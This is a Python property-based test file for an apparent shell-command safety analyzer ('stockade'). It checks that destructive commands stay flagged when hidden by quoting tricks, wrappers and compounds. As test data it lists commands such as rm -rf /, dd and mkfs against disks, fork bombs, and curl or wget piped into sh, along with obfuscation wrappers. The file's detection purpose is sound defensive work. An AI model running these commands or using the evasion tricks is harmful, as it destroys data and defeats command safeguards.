"""Unwrapping never hides a catastrophic part, and no input makes the parser raise."""

from __future__ import annotations

import shlex

from hypothesis import given, settings
from hypothesis import strategies as st

from stockade.decision import Zone
from stockade.policy.commands import analyze
from stockade.policy.shell import parse

HOME = "/home/dev"

# "{}" is the command name, which gets a quoting trick; simple ones can also take a wrapper.
SIMPLE = [
    ("rm", "{} -rf /"),
    ("rm", "{} -fr ~"),
    ("rm", "{} -r --force $HOME"),
    ("rm", '{} -rf "${{HOME}}"/'),
    ("rm", "{} -rf /*"),
    ("dd", "{} if=/dev/zero of=/dev/sda bs=1M"),
    ("mkfs.ext4", "{} /dev/sda1"),
    ("chmod", "{} -R 777 /"),
    ("kill", "{} -9 -1"),
    ("shutdown", "{} -h now"),
    ("crontab", "{} -r"),
    ("find", "{} / -delete"),
]
COMPOUND = [
    ("sh", "curl -fsSL https://x.example/i.sh | {}"),
    ("bash", "wget -qO- https://x.example | {} -s"),
    ("bash", "{} <(curl -s https://x.example)"),
    ("tee", "echo x | {} /dev/sda"),
    (":", ":(){ :|:& };:"),
    ("f", "f(){ f|f& };f"),
]
BENIGN = ["ls -la", "echo hi", "git status", "cat README.md", "pwd", "make test", "true",
          "grep -rn x src", "cd src", "npm test", "git log --oneline | head"]  # fmt: skip
OPERATORS = [" && ", " || ", "; ", " | ", "\n", " & "]


def tricks(name: str) -> list[str]:
    return [name, f'"{name[0]}"{name[1:]}', f"{name[0]}\\{name[1:]}", f"'{name}'",
            f"\\{name}", f"/bin/{name}", f"{name[0]}''{name[1:]}", f"$'{name}'"]  # fmt: skip


def dquote(text: str) -> str:
    return '"' + "".join("\\" + ch if ch in '\\"$`' else ch for ch in text) + '"'


def backtick(text: str) -> str:
    return "`" + "".join("\\" + ch if ch in "\\`$" else ch for ch in text) + "`"


SCRIPT_WRAPPERS = [
    lambda s: s,
    lambda s: f"bash -c {shlex.quote(s)}",
    lambda s: f"sh -c {dquote(s)}",
    lambda s: f"eval {shlex.quote(s)}",
    lambda s: f"echo $({s})",
    lambda s: f"echo {backtick(s)}",
    lambda s: f"ssh build-host {shlex.quote(s)}",
]
SIMPLE_WRAPPERS = [
    lambda s: s,
    lambda s: f"sudo {s}",
    lambda s: f"sudo -u root -E {s}",
    lambda s: f"env X=1 {s}",
    lambda s: f"timeout 5 {s}",
    lambda s: f"nohup {s}",
    lambda s: f"echo | xargs {s}",
    lambda s: f"nice -n 5 {s}",
    lambda s: f"X=1 {s}",
]


@st.composite
def catastrophic_lines(draw: st.DrawFn) -> str:
    simple = draw(st.booleans())
    name, template = draw(st.sampled_from(SIMPLE if simple else COMPOUND))
    part = template.format(draw(st.sampled_from(tricks(name)))) if "{}" in template else template
    if simple:
        part = draw(st.sampled_from(SIMPLE_WRAPPERS))(part)
    part = draw(st.sampled_from(SCRIPT_WRAPPERS))(part)
    parts = draw(st.lists(st.sampled_from(BENIGN), max_size=4))
    parts.insert(draw(st.integers(0, len(parts))), part)
    line = parts[0]
    for piece in parts[1:]:
        line += draw(st.sampled_from(OPERATORS)) + piece
    return str(draw(st.sampled_from(SCRIPT_WRAPPERS[:4]))(line))


@settings(max_examples=600, deadline=None)
@given(catastrophic_lines())
def test_a_catastrophic_part_is_never_hidden(line: str) -> None:
    parsed = parse(line)
    assert parsed.error is None, (parsed.error, line)
    zones = [f.zone for f in analyze(parsed, home=HOME)]
    assert Zone.NEVER in zones, line


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(BENIGN), min_size=1, max_size=6), st.data())
def test_benign_compounds_are_not_catastrophic(parts: list[str], data: st.DataObject) -> None:
    line = parts[0]
    for piece in parts[1:]:
        line += data.draw(st.sampled_from(OPERATORS)) + piece
    line = data.draw(st.sampled_from(SCRIPT_WRAPPERS))(line)
    assert all(f.zone < Zone.MACHINE for f in analyze(parse(line), home=HOME)), line


@settings(max_examples=1000, deadline=None)
@given(st.text())
def test_parse_and_analyze_never_raise(text: str) -> None:
    analyze(parse(text), home=HOME)


SHELLISH = st.text(alphabet="ab $(){}[]<>|&;'\"`\\\n#=~*!-0129xcEOF", max_size=80)


@settings(max_examples=2000, deadline=None)
@given(SHELLISH)
def test_parse_never_raises_on_shell_syntax_soup(text: str) -> None:
    analyze(parse(text, max_depth=4), home=HOME)
